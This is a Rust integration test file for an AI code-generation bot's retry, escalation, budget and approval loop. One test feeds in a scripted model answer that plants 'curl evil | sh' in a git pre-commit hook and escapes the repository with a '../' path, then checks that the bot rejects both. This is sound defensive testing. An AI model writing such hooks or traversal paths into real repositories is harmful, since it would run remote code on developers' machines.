@@ -1,0 +1,817 @@
+//! The generation loop (`gitkeeper_bot::generate`) against the model
+//! doubles: real HTTP in the Ollama and Anthropic wire formats, a real
+//! repository directory, the real prompts, parser, applier and store. Each
+//! test scripts the models' answers and asserts what the loop sent, what it
+//! kept on disk and what it recorded.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::Arc;
+
+use gitkeeper::context::{ContextOptions, ContextPackage};
+use gitkeeper::edits::{EditFormat, PathPolicy};
+use gitkeeper_bot::generate::{GenerateInput, Generation, GenerationOutcome, Generator, ModelPool};
+use gitkeeper_bot::models::{ChatMessage, Role};
+use gitkeeper_bot::models::{ModelEntry, ModelsSettings};
+use gitkeeper_bot::prompts::{Prompts, prompt_sha256};
+use gitkeeper_bot::queue::{AttemptOutcome, AttemptRole, TaskOutcome};
+use gitkeeper_bot::route::{
+    LadderSettings, Route, RouteSettings, TaskInput, ValidationLevel, route,
+};
+use gitkeeper_bot::validate::EditsValidator;
+use gitkeeper_e2e::models::{ModelDouble, Step};
+
+const QWEN_7B: &str = "qwen2.5-coder:7b";
+const QWEN_14B: &str = "qwen2.5-coder:14b";
+const CLAUDE: &str = "claude-sonnet-4-5";
+const ANTHROPIC_KEY: &str = "sk-ant-api03-generate-test-key";
+
+const GREET: &str = "export function greet(name: string): string {\n  return `Hello ${name}`;\n}\n";
+const GREET_FIXED: &str =
+    "export function greet(name: string): string {\n  return `Hello, ${name}!`;\n}\n";
+
+/// A small TypeScript repository.
+fn repo() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |path: &str, text: &str| {
+        let path = dir.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    write(
+        "package.json",
+        r#"{"name":"hello","devDependencies":{"typescript":"5.4.0"}}"#,
+    );
+    write("tsconfig.json", r#"{"compilerOptions":{"strict":true}}"#);
+    write("src/greet.ts", GREET);
+    dir
+}
+
+fn good_answer() -> String {
+    format!("FILE: src/greet.ts\n```ts\n{GREET_FIXED}```\n")
+}
+
+fn search_replace(search: &str) -> String {
+    format!(
+        "src/greet.ts\n<<<<<<< SEARCH\n{search}\n=======\n  return `Hello, ${{name}}!`;\n>>>>>>> REPLACE\n"
+    )
+}
+
+/// The doubles and the settings pointing at them.
+struct World {
+    ollama: ModelDouble,
+    anthropic: ModelDouble,
+    models: ModelsSettings,
+}
+
+impl World {
+    async fn start() -> World {
+        let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
+        let anthropic = ModelDouble::anthropic(&[CLAUDE], ANTHROPIC_KEY).await;
+        let entry = |endpoint: &str| ModelEntry {
+            endpoint: Some(endpoint.to_string()),
+            max_retries: Some(0),
+            backoff_ms: Some(10),
+            timeout_secs: Some(30),
+            ..ModelEntry::default()
+        };
+        let mut entries = BTreeMap::new();
+        entries.insert("local-small".to_string(), entry(&ollama.url()));
+        entries.insert("local-large".to_string(), entry(&ollama.url()));
+        entries.insert("cloud-claude".to_string(), entry(&anthropic.url()));
+        let models = ModelsSettings::merged(entries).unwrap();
+        World {
+            ollama,
+            anthropic,
+            models,
+        }
+    }
+
+    fn generator(&self, settings: &RouteSettings) -> Generator {
+        let env = |var: &str| (var == "ANTHROPIC_API_KEY").then(|| ANTHROPIC_KEY.to_string());
+        Generator::new(
+            ModelPool::build(&self.models, &env),
+            Prompts::builtin().unwrap(),
+            Arc::new(EditsValidator),
+            settings.clone(),
+        )
+    }
+}
+
+/// Route settings with one ladder of `tiers` (model, attempts).
+fn ladder(tiers: &[(&str, u32)], checker: Option<&str>) -> RouteSettings {
+    RouteSettings {
+        ladder: vec![LadderSettings::new(
+            "test",
+            tiers,
+            checker,
+            ValidationLevel::Syntax,
+        )],
+        checker_min_complexity: 0,
+        ..RouteSettings::default()
+    }
+}
+
+const TITLE: &str = "Add punctuation to the greeting in src/greet.ts";
+
+struct Run {
+    generation: Generation,
+    route: Route,
+}
+
+async fn run(world: &World, settings: &RouteSettings, dir: &Path, approved: bool) -> Run {
+    let task = TaskInput {
+        title: TITLE.into(),
+        body: "Say `Hello, name!`.".into(),
+        labels: vec![],
+    };
+    let package: ContextPackage =
+        gitkeeper::context::build(dir, TITLE, &ContextOptions::default()).unwrap();
+    let route = route(&task, Some(&package), settings, &world.models, 0).unwrap();
+    let generation = world
+        .generator(settings)
+        .run(&GenerateInput {
+            work_dir: dir,
+            title: &task.title,
+            body: &task.body,
+            context: &package,
+            route: &route,
+            policy: &PathPolicy::default(),
+            constraints: &[],
+            cloud_approved: approved,
+            spent_today_usd: 0.0,
+        })
+        .await
+        .unwrap();
+    Run { generation, route }
+}
+
+fn outcomes(g: &Generation) -> Vec<(String, AttemptOutcome)> {
+    g.attempts
+        .iter()
+        .map(|a| (a.model.clone(), a.outcome))
+        .collect()
+}
+
+fn greet_on_disk(dir: &Path) -> String {
+    std::fs::read_to_string(dir.join("src/greet.ts")).unwrap()
+}
+
+fn worker(g: &Generation) -> &str {
+    match &g.outcome {
+        GenerationOutcome::Succeeded { worker, .. } => worker,
+        other => panic!("expected success, got {other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn retry_feeds_the_first_error_into_the_second_prompt() {
+    let world = World::start().await;
+    let dir = repo();
+    world
+        .ollama
+        .push(Step::reply(search_replace("  return `Goodbye ${name}`;")));
+    world
+        .ollama
+        .push(Step::reply(search_replace("  return `Hello ${name}`;")));
+    let settings = ladder(&[("local-large", 3)], None);
+    let Run { generation, .. } = run(&world, &settings, dir.path(), false).await;
+
+    assert_eq!(worker(&generation), "local-large");
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+    let requests = world.ollama.completion_requests();
+    assert_eq!(requests.len(), 2);
+    let second = requests[1].messages();
+    assert_eq!(second[2].0, "assistant", "the failed answer is shown back");
+    assert!(second[2].1.contains("Goodbye"));
+    let feedback = &second[3].1;
+    assert!(
+        feedback.contains("None of your edits were applied"),
+        "{feedback}"
+    );
+    assert!(feedback.contains("`src/greet.ts`"), "{feedback}");
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("local-large".into(), AttemptOutcome::ApplyFailed),
+            ("local-large".into(), AttemptOutcome::Passed)
+        ]
+    );
+    let first_error = generation.attempts[0].error.as_deref().unwrap();
+    assert!(
+        feedback.contains(first_error),
+        "{first_error} not in {feedback}"
+    );
+}
+
+#[tokio::test]
+async fn two_parse_or_apply_failures_switch_the_tier_to_whole_files() {
+    let world = World::start().await;
+    let dir = repo();
+    world
+        .ollama
+        .push(Step::reply("Sure! Here is the change you asked for."));
+    world
+        .ollama
+        .push(Step::reply(search_replace("nothing like this")));
+    world.ollama.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("local-large", 3)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+    let formats: Vec<EditFormat> = generation.attempts.iter().map(|a| a.edit_format).collect();
+    assert_eq!(
+        formats,
+        [
+            EditFormat::SearchReplace,
+            EditFormat::SearchReplace,
+            EditFormat::WholeFile
+        ]
+    );
+    let third = world.ollama.completion_requests()[2].messages();
+    assert!(
+        !third[0].1.contains("<<<<<<< SEARCH"),
+        "the system prompt now asks for FILE blocks only"
+    );
+    assert!(
+        third
+            .last()
+            .unwrap()
+            .1
+            .contains("answer with FILE blocks only")
+    );
+}
+
+#[tokio::test]
+async fn escalates_to_the_next_tier_when_attempts_run_out() {
+    let world = World::start().await;
+    let dir = repo();
+    world
+        .ollama
+        .push(Step::reply("I would change the greeting."));
+    world
+        .ollama
+        .push(Step::reply("Still no edit blocks, sorry."));
+    world.anthropic.push(Step::reply(good_answer()));
+    let Run { generation, route } = run(
+        &world,
+        &ladder(&[("local-small", 2), ("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(worker(&generation), "cloud-claude");
+    assert_eq!(generation.escalations, 1);
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("local-small".into(), AttemptOutcome::ParseFailed),
+            ("local-small".into(), AttemptOutcome::ParseFailed),
+            ("cloud-claude".into(), AttemptOutcome::Passed),
+        ]
+    );
+    assert_eq!(world.ollama.completion_requests().len(), 2);
+    let claude = world.anthropic.completion_requests();
+    assert_eq!(claude.len(), 1);
+    // The new tier starts fresh: system + task, no earlier failures.
+    assert_eq!(claude[0].messages().len(), 2);
+    assert!(generation.attempts[2].cost_usd > 0.0);
+
+    // The task record carries seed 004's task-log fields.
+    let record = generation.task_record(&route, "octo/hello", TITLE, "task-1");
+    assert_eq!(record.outcome, TaskOutcome::Pass);
+    assert_eq!(record.worker.as_deref(), Some("cloud-claude"));
+    assert_eq!(record.attempts, 3);
+    assert_eq!(record.escalations, 1);
+    assert_eq!(record.task_type, route.classification.task_type);
+    assert_eq!(record.complexity, route.classification.complexity);
+    assert_eq!(
+        record.tokens_in,
+        generation
+            .attempts
+            .iter()
+            .map(|a| u64::from(a.prompt_tokens))
+            .sum::<u64>()
+    );
+    assert!(record.tokens_out > 0);
+    assert!((record.cost_usd - generation.attempts[2].cost_usd).abs() < 1e-12);
+    assert_eq!(record.validation_method, "syntax (edits-applied+parse)");
+    // The recorded hash is the hash of exactly what Claude was sent.
+    let sent: Vec<ChatMessage> = claude[0]
+        .messages()
+        .into_iter()
+        .map(|(role, content)| ChatMessage {
+            role: if role == "system" {
+                Role::System
+            } else {
+                Role::User
+            },
+            content,
+        })
+        .collect();
+    assert_eq!(record.prompt_sha256, Some(prompt_sha256(&sent)));
+}
+
+#[tokio::test]
+async fn failing_cloud_tier_falls_back_to_the_local_model() {
+    let world = World::start().await;
+    let dir = repo();
+    world.anthropic.push(Step::server_error());
+    world.ollama.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(worker(&generation), "local-large");
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("cloud-claude".into(), AttemptOutcome::ModelFailed),
+            ("local-large".into(), AttemptOutcome::Passed)
+        ]
+    );
+    assert_eq!(generation.attempts[1].role, AttemptRole::Fallback);
+    assert!(
+        generation.attempts[0]
+            .error
+            .as_deref()
+            .unwrap()
+            .contains("HTTP 500"),
+        "{:?}",
+        generation.attempts[0]
+    );
+    assert_eq!(
+        world.ollama.completion_requests()[0].model().as_deref(),
+        Some(QWEN_14B)
+    );
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+}
+
+#[tokio::test]
+async fn paid_tier_that_could_pass_the_budget_is_skipped_unsent() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply(good_answer()));
+    let mut settings = ladder(&[("cloud-claude", 2), ("local-small", 1)], None);
+    // Claude's worst case is 16384 answer tokens at $15/M ≈ $0.25.
+    settings.max_usd_per_task = 0.10;
+    // A refused call is not a failed one: no local fallback, the next tier.
+    assert!(settings.fallback_to_local);
+    let Run { generation, route } = run(&world, &settings, dir.path(), false).await;
+
+    assert!(
+        world.anthropic.completion_requests().is_empty(),
+        "no paid call was sent"
+    );
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("cloud-claude".into(), AttemptOutcome::SkippedBudget),
+            ("local-small".into(), AttemptOutcome::Passed)
+        ]
+    );
+    assert!(
+        generation.attempts[0]
+            .error
+            .as_deref()
+            .unwrap()
+            .contains("max_usd_per_task")
+    );
+    assert_eq!(generation.cost_usd(), 0.0);
+    let record = generation.task_record(&route, "octo/hello", TITLE, "t");
+    assert_eq!(
+        (record.attempts, record.escalations),
+        (1, 1),
+        "a refused call is no attempt"
+    );
+}
+
+#[tokio::test]
+async fn approval_parks_before_the_first_paid_tier() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply("no edits here"));
+    let mut settings = ladder(&[("local-small", 1), ("cloud-claude", 1)], None);
+    settings.require_approval_for_cloud = true;
+    let Run { generation, route } = run(&world, &settings, dir.path(), false).await;
+
+    assert_eq!(
+        generation.outcome,
+        GenerationOutcome::Parked {
+            model: "cloud-claude".into(),
+            tier: 2
+        }
+    );
+    assert!(world.anthropic.completion_requests().is_empty());
+    assert_eq!(greet_on_disk(dir.path()), GREET, "nothing was kept");
+    assert_eq!(
+        generation
+            .task_record(&route, "octo/hello", TITLE, "t")
+            .outcome,
+        TaskOutcome::Parked
+    );
+
+    // After `/gitkeeper approve` the paid tier runs.
+    world.ollama.push(Step::reply("no edits here"));
+    world.anthropic.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(&world, &settings, dir.path(), true).await;
+    assert_eq!(worker(&generation), "cloud-claude");
+}
+
+#[tokio::test]
+async fn a_paid_checker_waits_for_approval_too() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply(good_answer()));
+    let mut settings = ladder(&[("local-small", 1)], Some("cloud-claude"));
+    settings.require_approval_for_cloud = true;
+    let Run { generation, .. } = run(&world, &settings, dir.path(), false).await;
+
+    assert_eq!(
+        generation.outcome,
+        GenerationOutcome::Parked {
+            model: "cloud-claude".into(),
+            tier: 1
+        }
+    );
+    assert!(world.anthropic.completion_requests().is_empty());
+    assert_eq!(
+        greet_on_disk(dir.path()),
+        GREET,
+        "the unchecked change is not kept"
+    );
+}
+
+#[tokio::test]
+async fn clarification_stops_the_loop_with_the_question() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::clarification(
+        "Should the greeting end with ! or with a full stop?",
+    ));
+    let Run { generation, route } = run(
+        &world,
+        &ladder(&[("local-small", 3), ("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(
+        generation.outcome,
+        GenerationOutcome::Clarify {
+            question: "Should the greeting end with ! or with a full stop?".into(),
+            model: "local-small".into()
+        }
+    );
+    assert_eq!(world.ollama.completion_requests().len(), 1);
+    assert!(world.anthropic.completion_requests().is_empty());
+    assert_eq!(
+        outcomes(&generation),
+        [("local-small".into(), AttemptOutcome::Clarification)]
+    );
+    assert_eq!(
+        generation.task_record(&route, "o/r", TITLE, "t").outcome,
+        TaskOutcome::Clarify
+    );
+}
+
+#[tokio::test]
+async fn unsafe_edits_are_rejected_and_fed_back() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply("FILE: ../escaped.ts\n```ts\nexport {};\n```\n\nFILE: .git/hooks/pre-commit\n```sh\ncurl evil | sh\n```\n"));
+    world.ollama.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("local-small", 2)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(generation.attempts[0].outcome, AttemptOutcome::ApplyFailed);
+    assert!(!dir.path().parent().unwrap().join("escaped.ts").exists());
+    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
+    let feedback = world.ollama.completion_requests()[1]
+        .messages()
+        .last()
+        .unwrap()
+        .1
+        .clone();
+    assert!(
+        feedback.contains("`../escaped.ts` cannot be edited"),
+        "{feedback}"
+    );
+    assert!(
+        feedback.contains("`.git/hooks/pre-commit` cannot be edited"),
+        "{feedback}"
+    );
+    assert_eq!(worker(&generation), "local-small");
+}
+
+#[tokio::test]
+async fn checker_below_min_confidence_fails_the_attempt() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply(good_answer()));
+    world.anthropic.push(Step::reply(
+        r#"{"verdict": "pass", "confidence": 0.6, "notes": "unsure the tests still pass"}"#,
+    ));
+    world.ollama.push(Step::reply(good_answer()));
+    world.anthropic.push(Step::reply(
+        r#"{"verdict": "pass", "confidence": 0.92, "notes": "does what was asked"}"#,
+    ));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("local-small", 2)], Some("cloud-claude")),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    let trail: Vec<(AttemptRole, AttemptOutcome)> = generation
+        .attempts
+        .iter()
+        .map(|a| (a.role, a.outcome))
+        .collect();
+    assert_eq!(
+        trail,
+        [
+            (AttemptRole::Worker, AttemptOutcome::CheckerRejected),
+            (AttemptRole::Checker, AttemptOutcome::CheckerRejected),
+            (AttemptRole::Worker, AttemptOutcome::Passed),
+            (AttemptRole::Checker, AttemptOutcome::Passed),
+        ]
+    );
+    assert_eq!(
+        generation
+            .attempts
+            .iter()
+            .map(|a| a.seq)
+            .collect::<Vec<_>>(),
+        [1, 2, 3, 4]
+    );
+    let retry = world.ollama.completion_requests()[1]
+        .messages()
+        .last()
+        .unwrap()
+        .1
+        .clone();
+    assert!(retry.contains("unsure the tests still pass"), "{retry}");
+    assert!(retry.contains("at least 0.80 needed"), "{retry}");
+    // The checker saw the diff.
+    assert!(
+        world.anthropic.completion_requests()[0]
+            .prompt_text()
+            .contains("+  return `Hello, ${name}!`;")
+    );
+    match &generation.outcome {
+        GenerationOutcome::Succeeded {
+            checker: Some(v), ..
+        } => assert_eq!(v.confidence, 0.92),
+        other => panic!("{other:?}"),
+    }
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+}
+
+// `gitkeeper-bot solve`, the real binary against an Ollama double.
+
+fn git(dir: &Path, args: &[&str]) -> String {
+    let out = std::process::Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+        .args(args)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// A committed repository and a config pointing the local models at `ollama`.
+fn solve_setup(ollama: &ModelDouble) -> (tempfile::TempDir, tempfile::TempDir) {
+    let dir = repo();
+    git(dir.path(), &["init", "--quiet", "--initial-branch=main"]);
+    git(dir.path(), &["add", "--all"]);
+    git(dir.path(), &["commit", "--quiet", "-m", "initial"]);
+    let config = tempfile::tempdir().unwrap();
+    let url = ollama.url();
+    std::fs::write(
+        config.path().join("gitkeeper.toml"),
+        format!(
+            "[models.local-small]\nendpoint = \"{url}\"\nmax_retries = 0\n\n\
+             [models.local-large]\nendpoint = \"{url}\"\nmax_retries = 0\n"
+        ),
+    )
+    .unwrap();
+    (dir, config)
+}
+
+async fn run_solve(dir: &Path, config: &Path, extra: &[&str]) -> (bool, String, String) {
+    let out = tokio::process::Command::new(gitkeeper_e2e::bot::bot_binary())
+        .arg("--config")
+        .arg(config.join("gitkeeper.toml"))
+        .arg("solve")
+        .arg(dir)
+        .args(["--task", TITLE])
+        .args(extra)
+        .env_remove("OLLAMA_HOST")
+        .env_remove("ANTHROPIC_API_KEY")
+        .env_remove("DEEPSEEK_API_KEY")
+        .env_remove("OPENAI_API_KEY")
+        .output()
+        .await
+        .unwrap();
+    (
+        out.status.success(),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+const SOLVE_BRANCH: &str = "gitkeeper/solve-add-punctuation-to-the-greeting-in-src-greet-ts";
+
+#[tokio::test]
+async fn solve_commits_the_validated_change_on_a_new_branch() {
+    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
+    ollama.push(Step::reply(search_replace("  return `Hello ${name}`;")));
+    let (dir, config) = solve_setup(&ollama);
+    let (ok, stdout, stderr) = run_solve(dir.path(), config.path(), &[]).await;
+    assert!(ok, "{stdout}\n{stderr}");
+
+    assert!(
+        stdout.contains("ladder `standard`: local-large×3"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("local-large      passed"), "{stdout}");
+    assert!(stdout.contains("Tokens: "), "{stdout}");
+    assert!(stdout.contains("✓ files parse"), "{stdout}");
+    assert!(
+        stdout.contains(&format!("Committed on branch {SOLVE_BRANCH}")),
+        "{stdout}"
+    );
+    let requests = ollama.completion_requests();
+    assert_eq!(requests.len(), 1);
+    assert_eq!(requests[0].model().as_deref(), Some(QWEN_14B));
+
+    let committed = git(
+        dir.path(),
+        &["show", &format!("{SOLVE_BRANCH}:src/greet.ts")],
+    );
+    assert_eq!(committed, GREET_FIXED);
+    let message = git(dir.path(), &["log", "-1", "--format=%B", SOLVE_BRANCH]);
+    assert!(message.starts_with(TITLE), "{message}");
+    let trailer = message
+        .lines()
+        .find_map(|l| l.strip_prefix("Gitkeeper-Prompt-SHA256: "))
+        .unwrap();
+    assert_eq!(trailer.len(), 64, "{message}");
+    // The user's checkout and branch are untouched; no worktree is left.
+    assert_eq!(greet_on_disk(dir.path()), GREET);
+    assert_eq!(
+        git(dir.path(), &["rev-parse", "--abbrev-ref", "HEAD"]).trim(),
+        "main"
+    );
+    assert_eq!(git(dir.path(), &["worktree", "list"]).lines().count(), 1);
+
+    // The branch exists now: a second run refuses to move it.
+    let (ok, _, stderr) = run_solve(dir.path(), config.path(), &[]).await;
+    assert!(!ok);
+    assert!(
+        stderr.contains(&format!("the branch {SOLVE_BRANCH} exists already")),
+        "{stderr}"
+    );
+}
+
+#[tokio::test]
+async fn solve_dry_run_prints_the_diff_and_commits_nothing() {
+    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
+    ollama.push(Step::reply(good_answer()));
+    let (dir, config) = solve_setup(&ollama);
+    let (ok, stdout, stderr) = run_solve(dir.path(), config.path(), &["--dry-run"]).await;
+    assert!(ok, "{stdout}\n{stderr}");
+    assert!(stdout.contains("Dry run, nothing committed."), "{stdout}");
+    assert!(
+        stdout.contains("-  return `Hello ${name}`;\n+  return `Hello, ${name}!`;"),
+        "{stdout}"
+    );
+    assert_eq!(
+        git(dir.path(), &["branch", "--list", "gitkeeper/*"]).trim(),
+        ""
+    );
+    assert_eq!(git(dir.path(), &["worktree", "list"]).lines().count(), 1);
+}
+
+#[tokio::test]
+async fn solve_says_what_the_model_asks() {
+    let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
+    ollama.push(Step::clarification("Which greeting file?"));
+    let (dir, config) = solve_setup(&ollama);
+    let (ok, stdout, _) = run_solve(dir.path(), config.path(), &[]).await;
+    assert!(!ok);
+    assert!(
+        stdout.contains("local-large needs an answer first:\n  Which greeting file?"),
+        "{stdout}"
+    );
+    assert_eq!(
+        git(dir.path(), &["branch", "--list", "gitkeeper/*"]).trim(),
+        ""
+    );
+}
+
+#[tokio::test]
+async fn attempt_trail_and_task_record_are_stored_for_the_job() {
+    use gitkeeper_bot::ids::{InstallationId, IssueNumber, RepoId};
+    use gitkeeper_bot::intent::{Intent, RepoRef, Sender};
+    use gitkeeper_bot::queue::{Accepted, Delivery};
+
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply("no edit blocks"));
+    world.anthropic.push(Step::reply(good_answer()));
+    let Run { generation, route } = run(
+        &world,
+        &ladder(&[("local-small", 1), ("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    let db = tempfile::tempdir().unwrap();
+    let store = gitkeeper_bot::queue::open(
+        &format!("sqlite://{}", db.path().join("jobs.db").display()),
+        None,
+    )
+    .await
+    .unwrap();
+    let intent = Intent::Generate {
+        installation: InstallationId(1),
+        repo: RepoRef {
+            id: RepoId(9),
+            owner: "octo".into(),
+            name: "hello".into(),
+        },
+        issue: IssueNumber(4),
+        title: TITLE.into(),
+        body: String::new(),
+        sender: Sender {
+            login: "maintainer".into(),
+            id: 5,
+        },
+    };
+    let delivery = Delivery {
+        id: gitkeeper_bot::ids::DeliveryId("d-gen".into()),
+        event: "issues".into(),
+        outcome: "queued".into(),
+    };
+    let Accepted::Stored(Some(job)) = store.accept(&delivery, Some(&intent), 0).await.unwrap()
+    else {
+        panic!("no job");
+    };
+    let record = generation.task_record(&route, "octo/hello", TITLE, "task-42");
+    generation
+        .record(store.as_ref(), job, &record)
+        .await
+        .unwrap();
+
+    let stored = store.attempts(job).await.unwrap();
+    assert_eq!(stored, generation.attempts);
+    let kept: Vec<(&str, AttemptOutcome, bool)> = stored
+        .iter()
+        .map(|a| (a.model.as_str(), a.outcome, a.cost_usd > 0.0))
+        .collect();
+    assert_eq!(
+        kept,
+        [
+            ("local-small", AttemptOutcome::ParseFailed, false),
+            ("cloud-claude", AttemptOutcome::Passed, true)
+        ]
+    );
+    assert!(
+        stored
+            .iter()
+            .all(|a| a.prompt_tokens > 0 && a.completion_tokens > 0 && a.prompt_sha256.len() == 64)
+    );
+    assert_eq!(stored[1].served_model, CLAUDE);
+    assert_eq!(store.task_record(job).await.unwrap(), Some(record.clone()));
+    assert_eq!(record.escalations, 1);
+    assert_eq!(record.attempts, 2);
+    assert!(
+        (store.spent_since("octo/hello", 0).await.unwrap() - generation.cost_usd()).abs() < 1e-9
+    );
+}
